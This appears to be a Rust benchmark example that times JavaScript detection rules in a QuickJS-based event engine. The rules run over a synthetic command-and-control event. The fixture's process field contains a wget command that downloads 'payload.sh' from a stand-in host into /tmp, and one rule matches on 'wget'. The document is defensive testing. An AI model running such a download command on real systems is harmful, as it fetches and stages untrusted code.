//! Times three reactions, isolation and limits on: `cargo run --release -p reactant-engine-quickjs --example measure`.
//!
//! R1 leaves early; R2 collects addresses, calls two helpers and writes a part of the event as JSON; R3 writes the whole event. Each is also run
//! in turn among 1, 60 and 1,000 loaded scripts.

#![allow(clippy::print_stdout, clippy::unwrap_used, reason = "an example that prints")]

use std::{
    collections::HashMap,
    hint::black_box,
    time::{Duration, Instant},
};

use reactant_core::{
    engine::{Door, Invocation, Machine, ReactionEngine, ScriptId, Setup, Source},
    helper::{HelperId, HelperSpec, ParamKind, Returns},
    limits::{Limits, Stop},
    packed::Packed,
    value::Value,
};
use reactant_engine_quickjs::{Engine, Signal};

const R1: &str = "
function process(data) {
  if (!data.process.cmd.includes('wget')) return false;
  return true;
}";

const R2: &str = "
function process(data) {
  const rem = [];
  for (const p of data.background.flows.protocols) {
    for (const pair of p.pairs) {
      const r = pair.nodes.remote, a = r.address;
      if (a.startsWith('10.') || a.startsWith('192.168.') || a.startsWith('127.')) continue;
      const name = (r.names.length ? r.names[0] : r.name).toLowerCase();
      rem.push(p.proto + '/' + a + '(' + name + ')');
    }
  }
  if (rem.length === 0) return null;
  const key = 'seen:' + data.process.comm + ':' + data.process.uid;
  const prev = DataGet(key);
  const n = prev ? parseInt(prev) + 1 : 1;
  DataSet(key, String(n % 1000));
  const alert = { rule: 'net-drop', pid: data.process.pid, cmd: data.process.cmd.slice(0, 60).trim(),
    remotes: rem, count: n, tactic: data.metadata.tactic };
  return alert.rule + '|' + alert.remotes.join(',') + '|' + alert.cmd + '|' + JSON.stringify(data.process);
}";

const R3: &str = "function process(data) { return JSON.stringify(data, null, 2); }";

#[derive(Default)]
struct Store(HashMap<String, String>);

impl Door for Store {
    fn call(&mut self, helper: HelperId, args: &[Value]) -> Result<Value, Stop> {
        let text = |index: usize| args.get(index).and_then(Value::as_text).unwrap_or_default();
        Ok(if helper.0 == 0 {
            Value::from(self.0.get(text(0)).map_or("", String::as_str))
        } else {
            self.0.insert(text(0).to_owned(), text(1).to_owned());
            Value::Int(0)
        })
    }

    fn now_millis(&mut self) -> i64 {
        0
    }
}

fn event() -> Packed {
    let ancestor = |pid: i64| {
        serde_json::json!({
            "pid": pid, "ppid": pid - 1, "uid": 1000, "comm": "bash", "exe": "/usr/bin/bash", "cmd": "/usr/bin/bash --login -i",
            "start": "2026-08-01T10:00:00Z"
        })
    };
    let pair = |index: usize, name: &str| {
        serde_json::json!({
            "nodes": {
                "local": {"address": "192.168.1.20", "name": "", "names": []},
                "remote": {"address": format!("203.0.113.{index}"), "name": name, "names": [name, "cdn.example.net"]}
            },
            "port_matrix": [{"src_port": 40000 + index, "dst_port": 443}]
        })
    };
    let pairs: Vec<_> = (1..=4).map(|index| pair(index, "Downloads.Example.com")).collect();
    let background = serde_json::json!({
        "ancestry": (1..=6).map(ancestor).collect::<Vec<_>>(),
        "flows": {"protocols": [{"proto": "tcp", "pairs": pairs}]},
    });
    let json = serde_json::json!({
        "uuid": "0f0e9c5e-3c1c-4a9b-9d5e-0123456789ab", "timestamp": "2026-08-01T10:00:01.123456789Z",
        "metadata": {"kind": "execution", "name": "net_tool", "format": "v1", "version": "1.0", "description": "A network tool was run",
            "documentation": "", "importance": "medium", "tactic": "command-and-control", "technique": "T1105", "subtechnique": ""},
        "process": {"pid": 4242, "ppid": 4241, "uid": 1000, "gid": 1000, "comm": "wget", "exe": "/usr/bin/wget",
            "cmd": "/usr/bin/wget -q -O /tmp/x https://downloads.example.com/payload.sh", "args": "-q -O /tmp/x https://downloads.example.com/payload.sh",
            "cwd": "/home/user", "start": "2026-08-01T10:00:01Z", "retcode": 0},
        "file": {"file": "/usr/bin/wget", "dir": "/usr/bin", "basename": "wget", "actions": ["execve", "open", "read"], "owner": {"uid": 0, "gid": 0},
            "mode": "-rwxr-xr-x", "size": 548984},
        "background": background, "base": {"uuid": "x", "score": 3, "background": background},
    });
    Packed::of(&json.into())
}

/// The median over rounds, in microseconds per call.
fn time(mut call: impl FnMut(usize)) -> f64 {
    let mut rounds: Vec<Duration> = (0..30)
        .map(|_| {
            let start = Instant::now();
            (0..1000).for_each(&mut call);
            start.elapsed()
        })
        .collect();
    rounds.sort();
    rounds[rounds.len() / 2].as_secs_f64() * 1e3
}

fn load(machine: &mut dyn Machine, text: &str, limits: &Limits) -> ScriptId {
    machine.load(&Source { name: "r.js".into(), text: text.into() }, limits).unwrap()
}

fn main() {
    let engine = Engine::builder().watchdog(Signal::URGENT).build().unwrap();
    let helpers = [
        HelperSpec::new("DataGet", "").param("key", ParamKind::Text).returns(Returns::Text),
        HelperSpec::new("DataSet", "")
            .param("key", ParamKind::Text)
            .param("value", ParamKind::Text)
            .returns(Returns::Status),
    ];
    let helpers = helpers.into_iter().zip(0..).map(|(spec, id)| (HelperId(id), spec)).collect();
    let limits = Limits::default();
    let setup = Setup { helpers, memory: limits.memory, now_millis: 0 };
    let data = event();
    println!("event: {} bytes of JSON", data.root().to_json_exact().len());
    for (name, text) in [("R1", R1), ("R2", R2), ("R3", R3)] {
        for count in [1, 60, 1000] {
            let mut machine = engine.machine(&setup).unwrap();
            let alone = machine.memory();
            let scripts: Vec<ScriptId> =
                (0..count).map(|_| load(&mut *machine, text, &limits)).collect();
            let mut store = Store::default();
            let micros = time(|index| {
                let invocation = Invocation {
                    data: &data,
                    kind: "k",
                    name: "net_tool",
                    uuid: "0f0e9c5e-3c1c-4a9b-9d5e-0123456789ab",
                    seed: 1,
                    limits: &limits,
                };
                black_box(machine.run(scripts[index % count], &invocation, &mut store)).unwrap();
            });
            let each = (machine.memory() - alone) / count;
            println!(
                "{name} {count:>5} scripts: {micros:6.2} µs   machine {alone} bytes, script {each} bytes"
            );
        }
    }
}
